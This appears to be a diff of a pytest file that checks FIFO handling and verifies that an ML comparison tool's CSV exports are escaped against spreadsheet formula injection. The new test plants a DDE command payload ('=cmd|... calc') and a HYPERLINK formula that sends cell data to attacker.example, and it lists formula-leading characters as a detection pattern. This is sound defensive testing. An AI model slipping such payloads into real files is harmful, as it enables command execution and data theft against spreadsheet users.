@@ -274,8 +274,9 @@ def test_row03_fifo_image_and_records_in_a_source_do_not_hang_build(copied: dict
     import pandas as pd
 
     images = pd.read_parquet(out / "images.parquet")
-    reason = images.loc[images["path"] == str(image), "reason"].tolist()
-    assert len(reason) == 1 and FIFO_REASON in reason[0], reason
+    row = images[images["path"] == str(image)]
+    assert row["reason"].tolist() == ["unreadable"]
+    assert FIFO_REASON in row["read_error"].iloc[0], row["read_error"].tolist()
 
 
 APP_PROBE = """
@@ -309,9 +310,10 @@ def test_row03_fifo_in_a_dataset_and_a_run_does_not_hang_the_home_page(copied: d
     finally:
         _release(pipes)
     assert seen["exceptions"] == []
-    problems = sorted(p for table in seen["problems"] for p in table)
-    assert len(problems) == 2, problems
-    assert all(FIFO_REASON in p for p in problems) and {str(p) for p in pipes} == {p.split(" is damaged")[0] for p in problems}
+    problems = {p for table in seen["problems"] for p in table}  # a damaged dataset's runs list it too
+    for pipe in pipes:
+        assert any(p.startswith(f"{pipe} is damaged: {FIFO_REASON}") for p in problems), (pipe, problems)
+    assert all(f"is damaged: {FIFO_REASON}" in p for p in problems), problems
 
 
 # --------------------------------------------------------------------------- rows 8 and 10: run files
@@ -449,3 +451,50 @@ def test_row04_import_report_cannot_widen_the_source_confinement(tmp_path: Path)
     paths = load_source(out).table["path"].tolist()
     assert paths == [str(out.resolve() / "images" / "private.fits.gz")]
     assert Path(paths[0]).read_bytes() == FITS.read_bytes()
+
+
+# --------------------------------------------------------------------------- row 11: CSV exports
+
+
+FORMULA_MODEL = "=cmd|' /C calc'!A0"
+FORMULA_CLASS = '@HYPERLINK("http://attacker.example/?"&A1)'
+
+
+def _formula_names(copied: dict[str, Path]) -> None:
+    """Spreadsheet formulas as a model name (config.json), a class (metrics.json) and a dataset folder name."""
+    for config_file in copied["runs"].glob("*/config.json"):
+        config = json.loads(config_file.read_text())
+        if config["model"] == "lenet5":
+            config["model"] = FORMULA_MODEL
+        config["dataset"]["path"] = str(Path(config["dataset"]["path"]).parent / "-2+3\tx")
+        config_file.write_text(json.dumps(config))
+        metrics_file = config_file.parent / "metrics.json"
+        metrics = json.loads(metrics_file.read_text())
+        first = next(iter(metrics["per_class"]))
+        metrics["per_class"] = {FORMULA_CLASS if c == first else c: v for c, v in metrics["per_class"].items()}
+        metrics_file.write_text(json.dumps(metrics))
+
+
+def _dangerous_cells(text: str) -> list[str]:
+    import csv
+    import io
+
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_row11_csv_exports_are_inert_in_a_spreadsheet(copied: dict[str, Path]) -> None:
+    _formula_names(copied)
+    out = copied["root"] / "report"
+    done = _core("compare", "--out", str(out), "--pool-datasets", env=_env(copied), timeout=180)
+    assert done.returncode == 0, done.stderr[-3000:]
+    for name in ("summary.csv", "per_class.csv", "runs.csv", "tests.csv", "mcnemar.csv"):
+        text = (out / name).read_text()
+        assert _dangerous_cells(text) == [], name
+    summary = (out / "summary.csv").read_text()
+    assert f"\"'{FORMULA_MODEL}\"" in summary or f"'{FORMULA_MODEL}" in summary
+    assert "'" + FORMULA_CLASS.replace('"', '""') in (out / "per_class.csv").read_text()
+    assert "'-2+3\tx-" in (out / "runs.csv").read_text()
+    # Numbers stay numbers: a negative difference is not text.
+    import pandas as pd
+
+    assert pd.api.types.is_float_dtype(pd.read_csv(out / "summary.csv")["accuracy_mean"])
